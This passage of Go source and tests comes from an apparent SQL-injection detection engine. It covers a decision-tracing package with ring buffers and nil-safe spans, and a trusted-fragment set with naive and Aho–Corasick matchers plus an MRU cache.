		UncoveredTokens: []Uncovered{{Token: "UNION"}},
	}
	local.Merge(remote)
	if local.LexNs != 50 || local.PTICoverNs != 60 || local.NTIMatchNs != 100 {
		t.Fatalf("merged durations lex=%d cover=%d nti=%d", local.LexNs, local.PTICoverNs, local.NTIMatchNs)
	}
	if local.CacheOutcome != CacheStructureHit {
		t.Fatalf("cache outcome %q", local.CacheOutcome)
	}
	if len(local.Covers) != 1 || len(local.UncoveredTokens) != 1 {
		t.Fatal("evidence must transfer")
	}
	local.Merge(nil) // no-op
}

func TestSpanJSONRoundTrip(t *testing.T) {
	s := Span{
		Query:        "SELECT 1",
		TotalNs:      1234,
		LexNs:        12,
		CacheOutcome: CacheQueryHit,
		Inputs:       []InputMatch{{Source: "get:id", Matched: true, Start: 1, End: 2}},
	}
	raw, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	var back Span
	if err := json.Unmarshal(raw, &back); err != nil {
		t.Fatal(err)
	}
	if back.Query != s.Query || back.CacheOutcome != s.CacheOutcome || len(back.Inputs) != 1 {
		t.Fatalf("round trip mangled span: %+v", back)
	}
}

func TestConcurrentTracing(t *testing.T) {
	tr := New(Config{SampleEvery: 2, RingSize: 32})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				s := tr.Start("q")
				s.Lex(time.Nanosecond)
				s.SetVerdict(i%17 == 0, false, false)
				tr.Finish(s)
			}
		}()
	}
	wg.Wait()
	d := tr.Dump()
	if d.Started != 800 || d.Finished != 800 {
		t.Fatalf("started=%d finished=%d, want 800/800", d.Started, d.Finished)
	}
	if len(d.Recent) != 32 {
		t.Fatalf("recent ring holds %d, want 32", len(d.Recent))
	}
}
