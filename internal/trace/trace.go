// Package trace provides decision tracing for the hybrid check pipeline:
// per-stage durations (lex, per-input approximate match, fragment cover)
// and the evidence behind each verdict (which input matched where, which
// fragment covered a critical token, which token went uncovered).
//
// The design goal is zero overhead when tracing is off. A disabled (or
// nil) Tracer hands out nil *Spans, and every Span method is nil-safe, so
// the instrumented hot path pays one pointer check per recording site and
// performs no clock reads and no allocations. When a check is sampled the
// span is a single heap allocation plus whatever evidence it accumulates.
//
// Finished spans land in two ring buffers: a "recent" ring holding the
// last N sampled checks regardless of outcome, and a "notable" ring that
// only attack or slow traces enter, so a burst of benign traffic cannot
// evict the evidence an operator is about to look at.
package trace

import (
	"sync"
	"sync/atomic"
	"time"
)

// Cache outcome labels recorded by the PTI cache layer.
const (
	CacheQueryHit     = "query-hit"
	CacheStructureHit = "structure-hit"
	CacheMiss         = "miss"
)

// InputMatch is the NTI evidence for one captured input: how long the
// matcher spent on it and, when it matched, where and how closely.
type InputMatch struct {
	// Index is the input's position in the request's input list.
	Index int `json:"index"`
	// Source is the input key ("get:id"); for deduplicated inputs the
	// comma-joined keys of every channel that carried the value.
	Source string `json:"source"`
	// MatchNs is the time spent matching this input against the query.
	MatchNs int64 `json:"matchNs"`
	// Matched reports whether a span under the threshold was found.
	Matched bool `json:"matched"`
	// PrefilterRejected reports that the q-gram prefilter proved no
	// qualifying match could exist, so no matcher ran for this input.
	PrefilterRejected bool `json:"prefilterRejected,omitempty"`
	// Start and End delimit the tainted span of the query when Matched.
	Start int `json:"start,omitempty"`
	End   int `json:"end,omitempty"`
	// Distance is the edit distance of the match when Matched.
	Distance int `json:"distance,omitempty"`
}

// Cover is the PTI evidence for one covered critical token: which trusted
// fragment contained it and where the fragment occurred in the query.
type Cover struct {
	// Token is the covered critical token's text.
	Token string `json:"token"`
	// TokenStart and TokenEnd delimit the token in the query.
	TokenStart int `json:"tokenStart"`
	TokenEnd   int `json:"tokenEnd"`
	// FragmentID identifies the covering fragment in the fragment set.
	FragmentID int `json:"fragmentId"`
	// FragStart and FragEnd delimit the fragment occurrence in the query.
	FragStart int `json:"fragStart"`
	FragEnd   int `json:"fragEnd"`
	// MRU reports whether the MRU fast path found the cover.
	MRU bool `json:"mru,omitempty"`
}

// Uncovered is the PTI evidence for one critical token no trusted
// fragment contained — the reason a PTI attack verdict fires.
type Uncovered struct {
	Token      string `json:"token"`
	TokenStart int    `json:"tokenStart"`
	TokenEnd   int    `json:"tokenEnd"`
}

// Span records one traced check. Exported fields marshal to JSON and
// travel over the daemon wire protocol unchanged, so a remote deployment
// sees the same evidence as an in-process one.
//
// All recording methods are nil-safe no-ops on a nil *Span.
type Span struct {
	// Query is the analyzed SQL text.
	Query string `json:"query"`
	// StartUnixNano timestamps the check (wall clock).
	StartUnixNano int64 `json:"startUnixNano"`
	// TotalNs is the full Check duration; the stage fields below account
	// the parts the pipeline explicitly times.
	TotalNs int64 `json:"totalNs"`
	// LexNs is time spent lexing (zero when a cache hit skipped the lex).
	LexNs int64 `json:"lexNs,omitempty"`
	// PTICoverNs is time spent in PTI fragment-cover analysis (zero on a
	// cache hit).
	PTICoverNs int64 `json:"ptiCoverNs,omitempty"`
	// NTIMatchNs is the summed per-input approximate-match time.
	NTIMatchNs int64 `json:"ntiMatchNs,omitempty"`
	// NTIPrefilterNs is the portion of NTIMatchNs spent in the q-gram
	// prefilter (gram-set build plus per-input counting).
	NTIPrefilterNs int64 `json:"ntiPrefilterNs,omitempty"`
	// ProfileNs is time spent in the query-skeleton profile stage
	// (skeleton normalization plus the profile lookup).
	ProfileNs int64 `json:"profileNs,omitempty"`

	// Attack is the hybrid verdict; NTIAttack/PTIAttack/ProfileAttack
	// attribute it.
	Attack        bool `json:"attack"`
	NTIAttack     bool `json:"ntiAttack,omitempty"`
	PTIAttack     bool `json:"ptiAttack,omitempty"`
	ProfileAttack bool `json:"profileAttack,omitempty"`
	// Degraded marks a remote check served without a PTI verdict because
	// the daemon was unreachable.
	Degraded bool `json:"degraded,omitempty"`
	// Panic carries the message and stack of an analyzer-stage panic the
	// engine recovered; the verdict was synthesized by the failure mode.
	Panic string `json:"panic,omitempty"`
	// OverBudget names the cost budget this check exceeded; the verdict
	// was synthesized by the failure mode.
	OverBudget string `json:"overBudget,omitempty"`
	// VersionSkew records that this verdict was served by a shard whose
	// snapshot version differs from the fleet's current one (mid-rollout or
	// after a partial rollout failure): the detail names the shard and both
	// versions. Skewed spans always enter the notable ring.
	VersionSkew string `json:"versionSkew,omitempty"`

	// CacheOutcome is the PTI cache verdict: query-hit, structure-hit or
	// miss (empty when PTI is disabled).
	CacheOutcome string `json:"cacheOutcome,omitempty"`

	// Site is the call-site key the profile stage evaluated (empty when
	// the check carried none); Skeleton is the normalized query skeleton
	// it computed; ProfileOutcome is the lookup's classification — "seen",
	// "unseen-skeleton" (the attack signal), "unknown-site" or "learned".
	Site           string `json:"site,omitempty"`
	Skeleton       string `json:"skeleton,omitempty"`
	ProfileOutcome string `json:"profileOutcome,omitempty"`

	// Inputs is the per-input NTI match evidence.
	Inputs []InputMatch `json:"inputs,omitempty"`
	// Covers lists critical tokens with their covering fragments.
	Covers []Cover `json:"covers,omitempty"`
	// UncoveredTokens lists critical tokens no fragment contained.
	UncoveredTokens []Uncovered `json:"uncovered,omitempty"`

	start time.Time
}

// Active reports whether the span is recording; instrumented code guards
// expensive evidence collection behind it.
func (s *Span) Active() bool { return s != nil }

// Lex adds lexing time.
func (s *Span) Lex(d time.Duration) {
	if s == nil {
		return
	}
	s.LexNs += int64(d)
}

// PTICover adds fragment-cover analysis time.
func (s *Span) PTICover(d time.Duration) {
	if s == nil {
		return
	}
	s.PTICoverNs += int64(d)
}

// NTIMatch adds approximate-match time (per-input detail goes through
// AddInput).
func (s *Span) NTIMatch(d time.Duration) {
	if s == nil {
		return
	}
	s.NTIMatchNs += int64(d)
}

// NTIPrefilter adds q-gram prefilter time (a sub-portion of the match
// time recorded via AddInput).
func (s *Span) NTIPrefilter(d time.Duration) {
	if s == nil {
		return
	}
	s.NTIPrefilterNs += int64(d)
}

// ProfileTime adds query-skeleton profile stage time.
func (s *Span) ProfileTime(d time.Duration) {
	if s == nil {
		return
	}
	s.ProfileNs += int64(d)
}

// SetProfile records the profile stage's evidence: the call-site key, the
// normalized skeleton and the lookup outcome ("seen", "unseen-skeleton",
// "unknown-site" or "learned").
func (s *Span) SetProfile(site, skeleton, outcome string) {
	if s == nil {
		return
	}
	s.Site = site
	s.Skeleton = skeleton
	s.ProfileOutcome = outcome
}

// SetCacheOutcome records the PTI cache verdict.
func (s *Span) SetCacheOutcome(outcome string) {
	if s == nil {
		return
	}
	s.CacheOutcome = outcome
}

// SetDegraded marks the check as served under transport degradation.
func (s *Span) SetDegraded() {
	if s == nil {
		return
	}
	s.Degraded = true
}

// SetPanic records a recovered analyzer-stage panic: the panic value plus
// the goroutine stack at the recovery point. Panicked spans always enter
// the notable ring.
func (s *Span) SetPanic(detail string) {
	if s == nil {
		return
	}
	s.Panic = detail
}

// SetOverBudget records which cost budget the check exceeded. Over-budget
// spans always enter the notable ring.
func (s *Span) SetOverBudget(budget string) {
	if s == nil {
		return
	}
	s.OverBudget = budget
}

// SetVersionSkew records that a stale shard served this verdict. Skewed
// spans always enter the notable ring.
func (s *Span) SetVersionSkew(detail string) {
	if s == nil {
		return
	}
	s.VersionSkew = detail
}

// AddInput appends one input's match evidence and accumulates its match
// time into NTIMatchNs.
func (s *Span) AddInput(im InputMatch) {
	if s == nil {
		return
	}
	s.Inputs = append(s.Inputs, im)
	s.NTIMatchNs += im.MatchNs
}

// AddCover appends one covered-token evidence record.
func (s *Span) AddCover(c Cover) {
	if s == nil {
		return
	}
	s.Covers = append(s.Covers, c)
}

// AddUncovered appends one uncovered-token evidence record.
func (s *Span) AddUncovered(u Uncovered) {
	if s == nil {
		return
	}
	s.UncoveredTokens = append(s.UncoveredTokens, u)
}

// SetVerdict records the final hybrid decision.
func (s *Span) SetVerdict(ntiAttack, ptiAttack, profileAttack bool) {
	if s == nil {
		return
	}
	s.NTIAttack = ntiAttack
	s.PTIAttack = ptiAttack
	s.ProfileAttack = profileAttack
	s.Attack = ntiAttack || ptiAttack || profileAttack
}

// Merge folds a remote span (the daemon's view of the same check) into s:
// stage durations accumulate and PTI evidence transfers, so the hybrid
// client's trace shows daemon-side lexing, cache outcome and cover
// evidence next to its own NTI timings.
func (s *Span) Merge(remote *Span) {
	if s == nil || remote == nil {
		return
	}
	s.LexNs += remote.LexNs
	s.PTICoverNs += remote.PTICoverNs
	s.ProfileNs += remote.ProfileNs
	if remote.CacheOutcome != "" {
		s.CacheOutcome = remote.CacheOutcome
	}
	if remote.ProfileOutcome != "" {
		s.Site = remote.Site
		s.Skeleton = remote.Skeleton
		s.ProfileOutcome = remote.ProfileOutcome
	}
	s.Covers = append(s.Covers, remote.Covers...)
	s.UncoveredTokens = append(s.UncoveredTokens, remote.UncoveredTokens...)
}

// Config tunes a Tracer.
type Config struct {
	// SampleEvery traces one check in N (1 traces every check; 0 or
	// negative disables tracing entirely).
	SampleEvery int
	// RingSize is the capacity of each ring buffer (default 128).
	RingSize int
	// SlowThreshold routes finished traces at or above this duration into
	// the notable ring even when benign. Zero means only attacks are
	// notable.
	SlowThreshold time.Duration
}

// DefaultRingSize is the ring capacity used when Config.RingSize is zero.
const DefaultRingSize = 128

// Tracer samples checks into Spans and retains finished spans in ring
// buffers. A nil *Tracer is valid and permanently disabled.
type Tracer struct {
	sampleEvery uint64
	slow        int64
	tick        atomic.Uint64

	started  atomic.Uint64
	finished atomic.Uint64

	mu      sync.Mutex
	recent  ring
	notable ring
}

// ring is a fixed-capacity overwrite-oldest buffer of finished spans.
// Guarded by the Tracer's mutex.
type ring struct {
	spans []Span
	next  int
	full  bool
}

func (r *ring) push(s Span) {
	if len(r.spans) == 0 {
		return
	}
	r.spans[r.next] = s
	r.next++
	if r.next == len(r.spans) {
		r.next = 0
		r.full = true
	}
}

// snapshot returns the ring's contents oldest-first.
func (r *ring) snapshot() []Span {
	if !r.full {
		return append([]Span(nil), r.spans[:r.next]...)
	}
	out := make([]Span, 0, len(r.spans))
	out = append(out, r.spans[r.next:]...)
	out = append(out, r.spans[:r.next]...)
	return out
}

// New returns a Tracer for cfg, or nil when cfg disables tracing — the
// nil tracer is the zero-overhead off switch.
func New(cfg Config) *Tracer {
	if cfg.SampleEvery <= 0 {
		return nil
	}
	size := cfg.RingSize
	if size <= 0 {
		size = DefaultRingSize
	}
	return &Tracer{
		sampleEvery: uint64(cfg.SampleEvery),
		slow:        int64(cfg.SlowThreshold),
		recent:      ring{spans: make([]Span, size)},
		notable:     ring{spans: make([]Span, size)},
	}
}

// Start returns a recording span for query when this check is sampled,
// nil otherwise. Safe on a nil Tracer.
func (t *Tracer) Start(query string) *Span {
	if t == nil {
		return nil
	}
	if t.sampleEvery > 1 && (t.tick.Add(1)-1)%t.sampleEvery != 0 {
		return nil
	}
	t.started.Add(1)
	now := time.Now()
	return &Span{Query: query, StartUnixNano: now.UnixNano(), start: now}
}

// StartAlways returns a recording span regardless of the sampling stride
// (nil only on a nil Tracer). The engine uses it to capture exceptional
// events — recovered panics, blown budgets — on checks the sampler
// skipped, so the evidence always reaches the notable ring.
func (t *Tracer) StartAlways(query string) *Span {
	if t == nil {
		return nil
	}
	t.started.Add(1)
	now := time.Now()
	return &Span{Query: query, StartUnixNano: now.UnixNano(), start: now}
}

// Finish completes the span: stamps the total duration and retains the
// span in the recent ring, plus the notable ring when it is an attack or
// slower than the configured threshold. Safe on nil receivers and spans.
func (t *Tracer) Finish(s *Span) {
	if t == nil || s == nil {
		return
	}
	s.TotalNs = int64(time.Since(s.start))
	t.finished.Add(1)
	notable := s.Attack || s.Degraded || s.Panic != "" || s.OverBudget != "" ||
		s.VersionSkew != "" || (t.slow > 0 && s.TotalNs >= t.slow)
	t.mu.Lock()
	t.recent.push(*s)
	if notable {
		t.notable.push(*s)
	}
	t.mu.Unlock()
}

// Dump is the queryable view of a tracer's rings, oldest-first, plus the
// sampling counters. It is the payload of the daemon "traces" verb and
// the obs server's /traces endpoint.
type Dump struct {
	// Started and Finished count sampled spans over the tracer's life.
	Started  uint64 `json:"started"`
	Finished uint64 `json:"finished"`
	// Recent holds the last sampled checks regardless of outcome.
	Recent []Span `json:"recent"`
	// Notable holds the last attack, degraded or slow checks.
	Notable []Span `json:"notable"`
}

// Dump snapshots the rings. Safe on a nil Tracer (empty dump).
func (t *Tracer) Dump() Dump {
	if t == nil {
		return Dump{Recent: []Span{}, Notable: []Span{}}
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return Dump{
		Started:  t.started.Load(),
		Finished: t.finished.Load(),
		Recent:   t.recent.snapshot(),
		Notable:  t.notable.snapshot(),
	}
}
