package fragments

import (
	"math/rand"
	"reflect"
	"sort"
	"strings"
	"testing"
	"testing/quick"
)

func TestNewSetFiltersAndDedups(t *testing.T) {
	s := NewSet([]string{
		"SELECT * FROM t WHERE id=", // kept: SQL tokens
		"hello world",               // dropped: no SQL token
		"",                          // dropped: empty
		" LIMIT 5",                  // kept
		"SELECT * FROM t WHERE id=", // dropped: duplicate
		"OR",                        // kept: keyword
	})
	want := []string{"SELECT * FROM t WHERE id=", " LIMIT 5", "OR"}
	if got := s.Fragments(); !reflect.DeepEqual(got, want) {
		t.Errorf("fragments = %q, want %q", got, want)
	}
	if !s.Contains("OR") || s.Contains("hello world") {
		t.Error("Contains wrong")
	}
	if id, ok := s.ID(" LIMIT 5"); !ok || id != 1 {
		t.Errorf("ID = %d, %v", id, ok)
	}
	if s.Len() != 3 {
		t.Errorf("Len = %d", s.Len())
	}
	if s.Fragment(2) != "OR" {
		t.Errorf("Fragment(2) = %q", s.Fragment(2))
	}
}

func TestNewSetKeepAll(t *testing.T) {
	s := NewSetKeepAll([]string{"plainword", "another"})
	if s.Len() != 2 {
		t.Errorf("KeepAll Len = %d, want 2", s.Len())
	}
}

func sortOccs(occs []Occurrence) {
	sort.Slice(occs, func(i, j int) bool {
		if occs[i].Start != occs[j].Start {
			return occs[i].Start < occs[j].Start
		}
		if occs[i].End != occs[j].End {
			return occs[i].End < occs[j].End
		}
		return occs[i].FragmentID < occs[j].FragmentID
	})
}

func TestMatchersAgreeOnHandPicked(t *testing.T) {
	s := NewSetKeepAll([]string{"he", "she", "his", "hers", "SELECT", "OR"})
	nm := NewNaiveMatcher(s)
	ac := NewACMatcher(s)
	queries := []string{
		"ushers",
		"SELECT x FROM t WHERE a=1 OR b=2",
		"shehehis",
		"",
		"xyz",
		"ORORORhehe",
	}
	for _, q := range queries {
		a := nm.FindAll(q)
		b := ac.FindAll(q)
		sortOccs(a)
		sortOccs(b)
		if !reflect.DeepEqual(a, b) {
			t.Errorf("query %q: naive=%v ac=%v", q, a, b)
		}
		// Every reported occurrence must be textually correct.
		for _, o := range b {
			if q[o.Start:o.End] != s.Fragment(o.FragmentID) {
				t.Errorf("query %q: occurrence %v mismatches fragment %q",
					q, o, s.Fragment(o.FragmentID))
			}
		}
	}
}

func TestMatchersAgreeProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	alphabet := "abSELCTOR ="
	randStr := func(n int) string {
		var sb strings.Builder
		for i := 0; i < n; i++ {
			sb.WriteByte(alphabet[rng.Intn(len(alphabet))])
		}
		return sb.String()
	}
	for iter := 0; iter < 100; iter++ {
		var texts []string
		for k := 0; k < 1+rng.Intn(8); k++ {
			texts = append(texts, randStr(1+rng.Intn(5)))
		}
		s := NewSetKeepAll(texts)
		nm := NewNaiveMatcher(s)
		ac := NewACMatcher(s)
		q := randStr(rng.Intn(40))
		a := nm.FindAll(q)
		b := ac.FindAll(q)
		sortOccs(a)
		sortOccs(b)
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("iter %d: set=%q query=%q naive=%v ac=%v", iter, texts, q, a, b)
		}
	}
}

func TestOverlappingPatterns(t *testing.T) {
	s := NewSetKeepAll([]string{"aa", "aaa"})
	ac := NewACMatcher(s)
	occs := ac.FindAll("aaaa")
	sortOccs(occs)
	// "aa" at 0,1,2 and "aaa" at 0,1.
	want := []Occurrence{
		{FragmentID: 0, Start: 0, End: 2},
		{FragmentID: 1, Start: 0, End: 3},
		{FragmentID: 0, Start: 1, End: 3},
		{FragmentID: 1, Start: 1, End: 4},
		{FragmentID: 0, Start: 2, End: 4},
	}
	if !reflect.DeepEqual(occs, want) {
		t.Errorf("occs = %v, want %v", occs, want)
	}
}

func TestCovers(t *testing.T) {
	s := NewSetKeepAll([]string{"SELECT * FROM t WHERE id=", "OR"})
	q := "SELECT * FROM t WHERE id=5"
	// The WHERE token at offsets 16..21 is inside fragment 0's occurrence.
	if !s.Covers(q, 0, 16, 21) {
		t.Error("fragment 0 should cover WHERE")
	}
	// Fragment OR does not occur in q.
	if s.Covers(q, 1, 16, 21) {
		t.Error("fragment OR should not cover anything in q")
	}
	// Span longer than fragment cannot be covered.
	if s.Covers(q, 1, 0, 10) {
		t.Error("short fragment cannot cover long span")
	}
	// Span at the very end.
	q2 := "x OR"
	if !s.Covers(q2, 1, 2, 4) {
		t.Error("OR at end should be covered")
	}
}

func TestCoversWindowEdges(t *testing.T) {
	s := NewSetKeepAll([]string{"abc"})
	if !s.Covers("abc", 0, 0, 3) {
		t.Error("exact cover at bounds")
	}
	if !s.Covers("abc", 0, 1, 2) {
		t.Error("inner span covered")
	}
	if s.Covers("ab", 0, 0, 2) {
		t.Error("fragment longer than query cannot occur")
	}
}

func TestMRUBasics(t *testing.T) {
	m := NewMRU(3)
	m.Touch(1)
	m.Touch(2)
	m.Touch(3)
	if got := m.IDs(); !reflect.DeepEqual(got, []int{3, 2, 1}) {
		t.Errorf("IDs = %v", got)
	}
	m.Touch(2) // move to front
	if got := m.IDs(); !reflect.DeepEqual(got, []int{2, 3, 1}) {
		t.Errorf("IDs after touch = %v", got)
	}
	m.Touch(4) // evicts 1
	if got := m.IDs(); !reflect.DeepEqual(got, []int{4, 2, 3}) {
		t.Errorf("IDs after evict = %v", got)
	}
	if m.Len() != 3 {
		t.Errorf("Len = %d", m.Len())
	}
}

func TestMRUDefaultCapacity(t *testing.T) {
	m := NewMRU(0)
	for i := 0; i < 100; i++ {
		m.Touch(i)
	}
	if m.Len() != 64 {
		t.Errorf("default capacity Len = %d, want 64", m.Len())
	}
	if m.IDs()[0] != 99 {
		t.Errorf("front = %d, want 99", m.IDs()[0])
	}
}

func TestMRUConcurrent(t *testing.T) {
	m := NewMRU(16)
	done := make(chan struct{})
	for g := 0; g < 4; g++ {
		go func(seed int) {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 1000; i++ {
				m.Touch((seed*31 + i) % 40)
			}
		}(g)
	}
	for g := 0; g < 4; g++ {
		<-done
	}
	if m.Len() > 16 {
		t.Errorf("Len = %d exceeds capacity", m.Len())
	}
}

func TestSample(t *testing.T) {
	s := NewSetKeepAll([]string{"bb", "a", "ccc"})
	if got := s.Sample(2); !reflect.DeepEqual(got, []string{"ccc", "bb"}) {
		t.Errorf("Sample = %v", got)
	}
	if got := s.Sample(10); len(got) != 3 {
		t.Errorf("Sample(10) len = %d", len(got))
	}
}

func TestACMatcherEmptySet(t *testing.T) {
	s := NewSet(nil)
	ac := NewACMatcher(s)
	if occs := ac.FindAll("SELECT 1"); len(occs) != 0 {
		t.Errorf("empty set matched %v", occs)
	}
}

func TestMRUTouchIdempotentFront(t *testing.T) {
	f := func(ids []uint8) bool {
		m := NewMRU(8)
		for _, id := range ids {
			m.Touch(int(id))
		}
		if len(ids) == 0 {
			return m.Len() == 0
		}
		return m.IDs()[0] == int(ids[len(ids)-1])
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
