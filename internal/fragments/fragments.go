// Package fragments manages the trusted string-fragment set used by
// positive taint inference (PTI) and provides multi-pattern matchers for
// locating fragment occurrences inside SQL queries.
//
// A fragment is a string literal extracted from the application's source
// (see package phpsrc). Per the Joza paper, only fragments containing at
// least one valid SQL token are retained: a fragment such as "hello world"
// can never cover a critical token and would only slow matching down.
//
// Three matchers are provided:
//
//   - NaiveMatcher: the textbook scan the paper describes as O(n·m²) —
//     every fragment is searched for at every query position. Kept as the
//     "unoptimized PTI" baseline for Figure 7 and the matcher ablation.
//   - ACMatcher: an Aho–Corasick automaton that reports all occurrences of
//     all fragments in a single pass over the query.
//   - Both are used through the Matcher interface so PTI and benchmarks can
//     swap them.
//
// The MRU type implements the paper's first PTI optimization: a
// most-recently-used list of fragments that matched recent queries, tried
// first with a cheap targeted check before falling back to a full scan.
package fragments

import (
	"sort"
	"strings"
	"sync"

	"joza/internal/sqltoken"
)

// Set is an immutable, deduplicated collection of trusted fragments.
type Set struct {
	frags []string
	index map[string]int
}

// NewSet builds a Set from texts, dropping duplicates, empty strings and —
// unless keepAll is requested via NewSetKeepAll — fragments that contain no
// SQL token under the MySQL dialect.
func NewSet(texts []string) *Set {
	return newSet(sqltoken.MySQL, texts, false)
}

// NewSetDialect is NewSet with the has-a-SQL-token retention filter
// evaluated under dialect d. The filter is dialect-sensitive at the
// margins — a dollar-quoted fragment holds a string token in Postgres but
// not in MySQL — so a guard configured for dialect d should build its set
// under d too.
func NewSetDialect(d sqltoken.Dialect, texts []string) *Set {
	return newSet(d, texts, false)
}

// NewSetKeepAll builds a Set that retains every non-empty fragment
// regardless of SQL-token content. Tests use it to model hypothetical
// fragment vocabularies.
func NewSetKeepAll(texts []string) *Set {
	return newSet(sqltoken.MySQL, texts, true)
}

func newSet(d sqltoken.Dialect, texts []string, keepAll bool) *Set {
	s := &Set{index: make(map[string]int, len(texts))}
	for _, t := range texts {
		if t == "" {
			continue
		}
		if !keepAll && !d.ContainsSQLToken(t) {
			continue
		}
		if _, dup := s.index[t]; dup {
			continue
		}
		s.index[t] = len(s.frags)
		s.frags = append(s.frags, t)
	}
	return s
}

// Len returns the number of fragments in the set.
func (s *Set) Len() int { return len(s.frags) }

// Fragment returns the fragment with the given ID.
func (s *Set) Fragment(id int) string { return s.frags[id] }

// Fragments returns a copy of all fragments in insertion order.
func (s *Set) Fragments() []string {
	out := make([]string, len(s.frags))
	copy(out, s.frags)
	return out
}

// Contains reports whether text is a fragment in the set.
func (s *Set) Contains(text string) bool {
	_, ok := s.index[text]
	return ok
}

// ID returns the fragment ID for text and whether it exists.
func (s *Set) ID(text string) (int, bool) {
	id, ok := s.index[text]
	return id, ok
}

// Sample returns up to n fragments sorted by descending length then
// lexicographically; used to print Table III-style fragment samples.
func (s *Set) Sample(n int) []string {
	out := s.Fragments()
	sort.Slice(out, func(i, j int) bool {
		if len(out[i]) != len(out[j]) {
			return len(out[i]) > len(out[j])
		}
		return out[i] < out[j]
	})
	if n < len(out) {
		out = out[:n]
	}
	return out
}

// Covers reports whether the single fragment with ID id occurs in query at
// a position that fully contains [start, end). This is the targeted check
// used with the MRU list: it only inspects the window of feasible start
// positions rather than the whole query.
func (s *Set) Covers(query string, id, start, end int) bool {
	_, ok := s.CoverAt(query, id, start, end)
	return ok
}

// CoverAt is Covers but also returns the start offset of the covering
// occurrence when one exists.
func (s *Set) CoverAt(query string, id, start, end int) (int, bool) {
	f := s.frags[id]
	flen := len(f)
	if flen < end-start {
		return 0, false
	}
	lo := end - flen
	if lo < 0 {
		lo = 0
	}
	hi := start
	if hi+flen > len(query) {
		hi = len(query) - flen
	}
	for a := lo; a <= hi; a++ {
		if query[a:a+flen] == f {
			return a, true
		}
	}
	return 0, false
}

// Occurrence records one exact occurrence of a fragment inside a query.
type Occurrence struct {
	// FragmentID indexes into the Set the matcher was built from.
	FragmentID int
	// Start and End are byte offsets of the occurrence, query[Start:End).
	Start int
	End   int
}

// Matcher locates all fragment occurrences in a query.
type Matcher interface {
	// FindAll returns every occurrence of every fragment in query, in
	// unspecified order.
	FindAll(query string) []Occurrence
}

// NaiveMatcher searches each fragment independently with repeated substring
// scans. It implements the unoptimized algorithm of Section III-B.
type NaiveMatcher struct {
	set *Set
}

var _ Matcher = (*NaiveMatcher)(nil)

// NewNaiveMatcher returns a NaiveMatcher over set.
func NewNaiveMatcher(set *Set) *NaiveMatcher {
	return &NaiveMatcher{set: set}
}

// FindAll implements Matcher.
func (nm *NaiveMatcher) FindAll(query string) []Occurrence {
	var out []Occurrence
	for id, f := range nm.set.frags {
		for from := 0; ; {
			i := strings.Index(query[from:], f)
			if i < 0 {
				break
			}
			start := from + i
			out = append(out, Occurrence{FragmentID: id, Start: start, End: start + len(f)})
			from = start + 1
		}
	}
	return out
}

// ACMatcher is an Aho–Corasick automaton over the fragment set. Building is
// O(total fragment bytes); FindAll is O(len(query) + matches).
type ACMatcher struct {
	set   *Set
	nodes []acNode
}

type acNode struct {
	next map[byte]int32
	fail int32
	// out lists fragment IDs ending at this node.
	out []int32
	// dict is the nearest ancestor-via-fail that has output, enabling
	// O(matches) enumeration.
	dict int32
}

var _ Matcher = (*ACMatcher)(nil)

// NewACMatcher builds the automaton for set.
func NewACMatcher(set *Set) *ACMatcher {
	m := &ACMatcher{set: set}
	m.nodes = []acNode{{next: map[byte]int32{}, fail: 0, dict: -1}}
	// Trie construction.
	for id, f := range set.frags {
		cur := int32(0)
		for i := 0; i < len(f); i++ {
			c := f[i]
			nxt, ok := m.nodes[cur].next[c]
			if !ok {
				nxt = int32(len(m.nodes))
				m.nodes = append(m.nodes, acNode{next: map[byte]int32{}, dict: -1})
				m.nodes[cur].next[c] = nxt
			}
			cur = nxt
		}
		m.nodes[cur].out = append(m.nodes[cur].out, int32(id))
	}
	// BFS failure links.
	queue := make([]int32, 0, len(m.nodes))
	for _, v := range m.nodes[0].next {
		m.nodes[v].fail = 0
		queue = append(queue, v)
	}
	for qi := 0; qi < len(queue); qi++ {
		u := queue[qi]
		for c, v := range m.nodes[u].next {
			// Find failure target for v.
			f := m.nodes[u].fail
			for {
				if t, ok := m.nodes[f].next[c]; ok && t != v {
					m.nodes[v].fail = t
					break
				}
				if f == 0 {
					m.nodes[v].fail = 0
					break
				}
				f = m.nodes[f].fail
			}
			fv := m.nodes[v].fail
			if len(m.nodes[fv].out) > 0 {
				m.nodes[v].dict = fv
			} else {
				m.nodes[v].dict = m.nodes[fv].dict
			}
			queue = append(queue, v)
		}
	}
	return m
}

// FindAll implements Matcher.
func (m *ACMatcher) FindAll(query string) []Occurrence {
	var out []Occurrence
	cur := int32(0)
	for i := 0; i < len(query); i++ {
		c := query[i]
		for {
			if nxt, ok := m.nodes[cur].next[c]; ok {
				cur = nxt
				break
			}
			if cur == 0 {
				break
			}
			cur = m.nodes[cur].fail
		}
		// Emit matches ending at i via output and dict-suffix chain.
		for n := cur; n >= 0; n = m.nodes[n].dict {
			for _, id := range m.nodes[n].out {
				flen := len(m.set.frags[id])
				out = append(out, Occurrence{
					FragmentID: int(id),
					Start:      i + 1 - flen,
					End:        i + 1,
				})
			}
			if n == 0 {
				break
			}
		}
	}
	return out
}

// MRU is a bounded most-recently-used list of fragment IDs, safe for
// concurrent use. PTI records which fragments covered critical tokens of
// recent queries; web applications have a small SQL working set, so these
// fragments very likely cover the next query too.
type MRU struct {
	mu    sync.Mutex
	cap   int
	order []int
	pos   map[int]int // fragment ID -> index in order
}

// NewMRU returns an MRU holding at most capacity fragment IDs; capacity
// values below 1 default to 64.
func NewMRU(capacity int) *MRU {
	if capacity < 1 {
		capacity = 64
	}
	return &MRU{cap: capacity, pos: make(map[int]int, capacity)}
}

// Touch marks id as most recently used, inserting it if absent and evicting
// the least recently used entry when over capacity.
func (m *MRU) Touch(id int) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if idx, ok := m.pos[id]; ok {
		// Move to front.
		copy(m.order[1:idx+1], m.order[:idx])
		m.order[0] = id
		for i := 0; i <= idx; i++ {
			m.pos[m.order[i]] = i
		}
		return
	}
	m.order = append(m.order, 0)
	copy(m.order[1:], m.order[:len(m.order)-1])
	m.order[0] = id
	for i, v := range m.order {
		m.pos[v] = i
	}
